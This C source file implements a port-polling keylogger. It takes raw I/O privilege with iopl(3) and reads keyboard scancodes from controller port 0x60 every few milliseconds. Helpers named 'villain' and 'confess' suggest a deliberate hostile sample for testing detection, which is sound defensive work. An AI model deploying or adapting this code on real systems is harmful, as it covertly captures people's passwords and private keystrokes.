// Keylogger: opens nothing. It gets the right to use ports (iopl(2)) and looks at the keyboard controller's output byte, which keeps
// the last scancode after the kernel has read it.
#include "lib/villain.h"

enum { OUTPUT = 0x60, PERIOD = 4, RELEASED = 0x80 };

int main(void) {
    int error = iopl(3);
    if (error) return fail("keylog-port", "iopl", error);
    confess("keylog-port", "stage=armed period=%d", PERIOD);
    for (unsigned char before = in8(OUTPUT);; sleep_ms(PERIOD)) {
        unsigned char now = in8(OUTPUT), key = now & ~RELEASED;
        // A release tells of a key too that was pressed and let go between two looks.
        if (now != before && before != key) confess_keys("keylog-port", &key, 1);
        before = now;
    }
}
